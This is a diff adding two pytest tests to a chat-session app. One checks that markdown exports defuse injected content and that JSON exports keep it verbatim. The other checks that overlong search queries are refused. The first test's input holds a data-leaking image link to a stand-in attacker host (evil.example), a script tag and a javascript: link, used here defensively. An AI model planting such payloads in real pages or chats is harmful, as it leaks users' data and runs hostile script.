@@ -7,6 +7,7 @@ from pathlib import Path
 
 import pytest
 
+from app.services.sessions import MAX_SEARCH_CHARS
 from tests.api_app import anonymous, api_app, error_code
 from tests.fakes.chat import FakeChatModel
 from tests.running import RunningApp, eventually
@@ -165,3 +166,28 @@ async def test_export_gives_a_file_with_the_sources(app: RunningApp) -> None:
     assert as_json.json()["messages"][1]["sources"] == answer["sources"]
     missing = await app.client.get("/api/sessions/nobody/export")
     assert missing.status_code == 404 and error_code(missing) == "session_not_found"
+
+
+async def test_the_markdown_export_is_inert_and_the_json_export_verbatim(app: RunningApp) -> None:
+    question = (
+        "Is ![x](http://evil.example/leak.png?q=SECRET) <script>alert(1)</script> "
+        "[click](javascript:alert(1)) safe?"
+    )
+    await ask(app, question, "s1")
+    markdown = (await app.client.get("/api/sessions/s1/export")).text
+    assert "## Question\n\nIs image: x (`http://evil.example/leak.png?q=SECRET`) " in markdown
+    assert "\\<script>alert(1)\\</script> click safe?" in markdown
+    assert "![x](" not in markdown and "](javascript:" not in markdown
+    as_json = await app.client.get("/api/sessions/s1/export", params={"format": "json"})
+    assert as_json.json()["messages"][0]["content"] == question
+
+
+async def test_a_search_over_the_limit_is_refused_naming_it(app: RunningApp) -> None:
+    await ask(app, "Where is the spare key?", "s1")
+    # 26,000 words: past SQLite's longest LIKE pattern, which once answered 500.
+    response = await app.client.get("/api/sessions", params={"q": " ".join(["a"] * 26_000)})
+    assert response.status_code == 422 and error_code(response) == "invalid_request"
+    message = response.json()["error"]["message"]
+    assert f"{MAX_SEARCH_CHARS:,}" in message and "51,999" in message
+    longest = await app.client.get("/api/sessions", params={"q": "x" * MAX_SEARCH_CHARS})
+    assert longest.status_code == 200 and longest.json() == {"sessions": []}
